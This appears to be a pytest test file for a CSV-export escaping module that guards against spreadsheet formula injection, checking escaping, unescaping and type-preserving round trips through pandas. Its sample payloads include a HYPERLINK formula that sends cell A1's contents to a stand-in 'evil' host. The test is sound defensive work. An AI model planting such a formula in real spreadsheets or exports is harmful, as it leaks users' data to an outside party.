"""Formula injection in CSV exports: text cells that a spreadsheet would run get a leading quote;
numbers stay numbers, and pandas reads them back with their types."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from trustlab.csv_safety import escape_cell, escape_frame, escape_row, unescape_cell, write_csv

DANGEROUS = ["=HYPERLINK(\"http://evil/?\"&A1)", "+1", "-cmd", "@x", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_cells_get_a_quote_and_unescape_restores_them(text):
    assert escape_cell(text) == "'" + text
    assert unescape_cell(escape_cell(text)) == text


@pytest.mark.parametrize("value", ["plain", "", "'quoted", "a=b", -3, -2.5, 0, True, None, float("nan")])
def test_other_cells_are_unchanged(value):
    out = escape_cell(value)
    assert out is value or (out != out and value != value)  # NaN is itself
    assert unescape_cell("'plain") == "'plain"  # only a quote before a formula character is ours


def test_frame_round_trip_keeps_numbers_numeric_and_does_not_mutate():
    frame = pd.DataFrame(
        {
            "delta": [-1, 2, -3],
            "score": [-0.5, float("nan"), 1.25],
            "flag": [True, False, True],
            "comment": ["=HYPERLINK(\"x\")", "fine", None],
            "pid": pd.Series(["+1", "p2", "@x"], dtype="str"),
            "mixed": [-4, "-cmd", ""],
        }
    ).set_axis(pd.Index(["-cmd", "b", "c"], name="class"))
    before = frame.copy()
    buffer = io.StringIO()
    write_csv(frame, buffer, index=False)
    pd.testing.assert_frame_equal(frame, before)
    back = pd.read_csv(io.StringIO(buffer.getvalue()))
    assert pd.api.types.is_integer_dtype(back["delta"]) and back["delta"].tolist() == [-1, 2, -3]
    assert pd.api.types.is_float_dtype(back["score"]) and back["score"].iloc[0] == -0.5
    assert back["flag"].tolist() == [True, False, True]
    assert back["comment"].iloc[0] == "'=HYPERLINK(\"x\")" and back["comment"].iloc[1] == "fine"
    assert back["pid"].tolist() == ["'+1", "p2", "'@x"]
    assert back["mixed"].iloc[:2].tolist() == ["-4", "'-cmd"]  # the number stays unquoted
    assert escape_frame(frame).index.tolist() == ["'-cmd", "b", "c"]


def test_headers_and_rows_are_escaped():
    frame = pd.DataFrame([[1, 2]], columns=["-cmd", "ok"], index=pd.Index(["=x"], name="true"))
    buffer = io.StringIO()
    write_csv(frame, buffer)
    assert buffer.getvalue().splitlines() == ["true,'-cmd,ok", "'=x,1,2"]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(escape_row(["@x", -1, "a"]))
    assert out.getvalue() == "'@x,-1,a\n"
